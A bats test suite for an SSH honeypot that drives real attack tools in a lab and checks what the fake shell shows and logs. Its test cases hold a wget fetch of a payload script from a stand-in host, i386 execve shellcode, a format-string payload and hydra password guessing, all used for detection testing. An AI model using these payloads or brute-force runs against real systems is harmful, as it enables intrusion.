#!/usr/bin/env bats
# The SSH fake shell with real clients: the daemon runs the service in the
# lab's sensor namespace; OpenSSH (through sshpass), hydra, nmap and
# ssh-keyscan talk to it from the attacker's, and each claim is checked
# against what the client printed and what the event log recorded.

load ../helpers
bats_require_minimum_version 1.5.0
# shellcheck source-path=SCRIPTDIR
LAB_DIR="$BATS_TEST_DIRNAME/../lab"

setup_file() {
	hs_lab_setup_file hs ssh sshpass ssh-keyscan ssh-keygen hydra nmap socat jq
}

teardown_file() {
	hs_lab_teardown_file
}

setup() {
	[ -z "${LAB_SKIP:-}" ] || skip "$LAB_SKIP"
	. "$LAB_DIR/lab.sh"
	hs_require_root
	[ -x "$BIN/services/ssh" ] || skip "needs $BIN/services/ssh"
	hs_setup_dir
	HS_WRAP="ip netns exec $LAB_SENSOR_NS"
	SENSOR=$LAB_SENSOR_IP
	SSH_DIR=$HS_DIR/ssh
}

teardown() {
	hs_teardown
}

attacker() {
	lab_exec attacker "$@"
}

# ssh_start [ARGS...]: the daemon with the service on port 22, started
# with ARGS; host keys go to $SSH_DIR, which only the service may write.
# SSH_PROG may name a wrapper to run instead of the program.
ssh_start() {
	local a args=""

	for a in -H testbox -t 20 "$@"; do
		args="$args${args:+, }\"$a\""
	done
	install -d -m 0700 -o _honeyspy-svc -g _honeyspy-svc "$SSH_DIR"
	hs_write_config ssh
	hs_add_config <<EOF
services:
  - address: $SENSOR
    port: 22
    program: ${SSH_PROG:-$BIN/services/ssh}
    args: [$args]
    directory: $SSH_DIR
EOF
	hs_start
}

# The events with this eventid, one JSON object per line.
events() {
	jq -c --arg e "$1" 'select(.eventid == $e)' "$HS_EVENTS"
}

# sshc PASSWORD [SSH ARGS...]: OpenSSH from the attacker, as root.
sshc() {
	local pass=$1

	shift
	attacker timeout 30 sshpass -p "$pass" ssh -o StrictHostKeyChecking=no \
	    -o UserKnownHostsFile=/dev/null -o LogLevel=error \
	    -o ConnectTimeout=10 "$@"
}

@test "ssh exec: the OpenSSH client logs in and gets a believable machine" {
	ssh_start -u root:hunter2
	run -127 sshc hunter2 "root@$SENSOR" 'uname -a; id; cat /etc/issue; foo'
	echo "$output"
	[ "${lines[0]}" = "Linux testbox 3.2.0-58-generic #88-Ubuntu SMP Tue Dec 3 17:37:58 UTC 2013 x86_64 x86_64 x86_64 GNU/Linux" ]
	[ "${lines[1]}" = "uid=0(root) gid=0(root) groups=0(root)" ]
	[ "${lines[2]}" = 'Ubuntu 12.04.4 LTS \n \l' ]
	[[ "$output" == *"bash: foo: command not found"* ]]
	# The server's banner is an old OpenSSH's.
	banner=$(attacker timeout 10 socat -T 2 -u "TCP:$SENSOR:22" STDOUT |
	    head -n 1 | tr -d '\r')
	[ "$banner" = "SSH-2.0-OpenSSH_5.9p1 Debian-5ubuntu1.4" ]
	hs_wait_event honeyspy.command.input
	events honeyspy.client.version | jq -e '.version | startswith("SSH-2.0-OpenSSH_9")'
	events honeyspy.login.success | jq -e --arg a "$LAB_ATTACKER_IP" \
	    '.username == "root" and .password == "hunter2" and
	     .src_ip == $a and .dst_port == 22 and .service == "ssh"'
	events honeyspy.command.input | jq -e \
	    '.input == "uname -a; id; cat /etc/issue; foo"'
	events honeyspy.command.failed | jq -e '.input == "foo"'
	# Keys were made on the first run, readable only by the service.
	for t in rsa ecdsa ed25519; do
		[ "$(stat -c '%U %a' "$SSH_DIR/ssh_host_${t}_key")" = "_honeyspy-svc 600" ]
	done
}

@test "interactive: ssh -tt gets prompts, a filesystem, line editing and logged lines" {
	ssh_start -u root:hunter2
	printf '%s\n' pwd 'cd /etc' 'cat hostname' 'ls /home' \
	    'wget http://203.0.113.9/bins/x86.sh' $'ech\177\177\177echo ok' \
	    'exit' >"$HS_DIR/typed"
	run sshc hunter2 -tt "root@$SENSOR" <"$HS_DIR/typed"
	echo "$output" | cat -A
	out=$(tr -d '\r' <<<"$output")
	[[ "$out" == *"Welcome to Ubuntu 12.04.4 LTS"* ]]
	grep -qx 'root@testbox:~# pwd' <<<"$out"
	grep -qx '/root' <<<"$out"
	grep -qx 'root@testbox:/etc# cat hostname' <<<"$out"
	grep -qx 'testbox' <<<"$out"
	grep -qx 'ubuntu' <<<"$out"
	grep -q 'wget: unable to resolve host address\|Connecting to 203.0.113.9:80... failed' <<<"$out"
	grep -qx 'ok' <<<"$out"
	grep -qx 'root@testbox:/etc# exit' <<<"$out"
	hs_wait_event honeyspy.session.closed
	[ "$(events honeyspy.command.input | jq -r .input | tr '\n' '|')" = \
	    "pwd|cd /etc|cat hostname|ls /home|wget http://203.0.113.9/bins/x86.sh|echo ok|exit|" ]
	events honeyspy.command.download | jq -e \
	    '.url == "http://203.0.113.9/bins/x86.sh" and .program == "wget"'
	# Without a terminal of its own, ssh -tt asks for a 0x0 one.
	events honeyspy.client.size | jq -e 'has("width") and has("height")'
}

@test "exploits typed into the shell are analysed as the service decoded them" {
	ssh_start -u root:hunter2
	# i386 execve("/bin//sh") as a shell would write it to a file
	sc='\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80'
	run sshc hunter2 "root@$SENSOR" \
	    "printf '$sc' >/tmp/.x; echo %08x.%08x.%08x.%08x.%n%n"
	echo "$output"
	hs_wait_event honeyspy.session.closed
	# The transcript is encrypted: only the decoded input shows them.
	events honeyspy.detect.shellcode | jq -e -s 'length >= 1 and
	    (.[0].direction == "decoded") and
	    (.[0].description | test("^\\\\x-escaped: execve"))'
	events honeyspy.detect.format_string | jq -e -s 'length >= 1 and
	    (.[0].direction == "decoded")'
	events honeyspy.session.closed | jq -e '
	    (.detections | map(select(.direction == "decoded")) | length >= 2)
	    and (.artifact_decoded | length == 64)'
}

@test "hydra: N wrong passwords make exactly N failed logins with those passwords" {
	ssh_start -u root:hunter2
	seq 1 8 | sed 's/^/guess/' >"$HS_DIR/words"
	run attacker timeout 60 hydra -l root -P "$HS_DIR/words" -t 1 \
	    "ssh://$SENSOR"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"0 valid password"* ]]
	hs_wait_event honeyspy.login.failed 8
	# Past the six tries a connection allows, hydra reconnects: still 8.
	[ "$(events honeyspy.login.failed | jq -r .password | sort | tr '\n' ' ')" = \
	    "guess1 guess2 guess3 guess4 guess5 guess6 guess7 guess8 " ]
	[ "$(events honeyspy.login.failed | jq -r .username | sort -u)" = root ]
	[ -z "$(events honeyspy.login.success)" ]
}

@test "policy: wrong passwords are refused, -n lets the Nth attempt in" {
	ssh_start -u admin:secret -n 3
	run sshc wrong "root@$SENSOR" -o PreferredAuthentications=password \
	    -o NumberOfPasswordPrompts=1 id
	[ "$status" -ne 0 ]
	run sshc secret "admin@$SENSOR" id
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == "uid=1000(admin) gid=1000(admin) groups=1000(admin),"* ]]
	hs_wait_event honeyspy.login.success
	events honeyspy.login.failed | jq -e '.username == "root" and .password == "wrong" and .method == "password"'
	events honeyspy.login.success | jq -e '.username == "admin" and .password == "secret" and .method == "keyboard-interactive"'
	# hydra with three wrong words gets in on the third.
	printf 'a1\na2\na3\n' >"$HS_DIR/words"
	run attacker timeout 60 hydra -l root -P "$HS_DIR/words" -t 1 \
	    "ssh://$SENSOR"
	echo "$output"
	[[ "$output" == *"login: root"*"password: a3"* ]]
}

@test "nmap -sV names the configured product and version" {
	ssh_start -b "OpenSSH_6.6.1p1 Ubuntu-2ubuntu2.13"
	run attacker timeout 120 nmap -sV -p 22 -Pn "$SENSOR"
	echo "$output"
	grep -E '^22/tcp +open +ssh +OpenSSH 6\.6\.1p1 Ubuntu 2ubuntu2\.13' <<<"$output"
}

@test "host keys: racing first connections agree on one key, kept across runs" {
	ssh_start
	pids=""
	for i in 1 2 3 4; do
		attacker timeout 30 ssh-keyscan -t ed25519 "$SENSOR" \
		    >"$HS_DIR/scan$i" 2>/dev/null &
		pids="$pids $!"
	done
	# shellcheck disable=SC2086
	wait $pids
	want=$(ssh-keygen -y -f "$SSH_DIR/ssh_host_ed25519_key" | cut -d' ' -f1,2)
	[ -n "$want" ]
	for i in 1 2 3 4; do
		cat "$HS_DIR/scan$i"
		[ "$(cut -d' ' -f2,3 "$HS_DIR/scan$i")" = "$want" ]
	done
	# No temporary file is left behind.
	[ "$(find "$SSH_DIR" -name '.ssh_host_*' | wc -l)" -eq 0 ]
	hs_stop
	hs_start
	got=$(attacker timeout 30 ssh-keyscan -t ed25519 "$SENSOR" 2>/dev/null)
	[ "$(cut -d' ' -f2,3 <<<"$got")" = "$want" ]
}

@test "hostile input: garbage, oversized packets and lines end cleanly, the service goes on" {
	# A wrapper notes each run's exit status: a crash would show as 128+N.
	cat >"$HS_DIR/wrap" <<EOF
#!/bin/sh
"$BIN/services/ssh" "\$@"
echo \$? >>"$SSH_DIR/status"
EOF
	chmod 0755 "$HS_DIR/wrap"
	SSH_PROG=$HS_DIR/wrap ssh_start -u root:hunter2
	head -c 65536 /dev/urandom >"$HS_DIR/junk"
	{ printf 'SSH-2.0-junk\r\n'; cat "$HS_DIR/junk"; } >"$HS_DIR/junk1"
	# A packet that claims to be 2 GB long.
	{ printf 'SSH-2.0-big\r\n'; printf '\177\377\377\377'; head -c 4096 /dev/zero; } >"$HS_DIR/junk2"
	# A client version line of 100 KB.
	{ printf 'SSH-2.0-'; head -c 100000 /dev/zero | tr '\0' A; printf '\r\n'; } >"$HS_DIR/junk3"
	for f in junk junk1 junk2 junk3; do
		attacker timeout 20 socat -T 10 - "TCP:$SENSOR:22" \
		    <"$HS_DIR/$f" >/dev/null 2>&1 || true
	done
	hs_wait_event honeyspy.session.closed 4
	events honeyspy.client.version | jq -s -e 'any(.[]; .version == "SSH-2.0-junk")'
	# A real client still gets in.
	run sshc hunter2 "root@$SENSOR" 'echo still here'
	[ "$output" = "still here" ]
	# A command line far over the limit is cut, not fatal, and logged
	# with its real length.
	long=$(head -c 70000 /dev/zero | tr '\0' a)
	run sshc hunter2 "root@$SENSOR" "echo $long | wc -c"
	[ "$status" -eq 0 ]
	[ "${#output}" -gt 60000 ]
	hs_wait_event honeyspy.session.closed 6
	events honeyspy.command.input | jq -s -e 'any(.[]; .input_length == 70013)'
	cat "$SSH_DIR/status"
	[ "$(sort -u "$SSH_DIR/status")" = 0 ]
	[ "$(wc -l <"$SSH_DIR/status")" -eq 6 ]
}
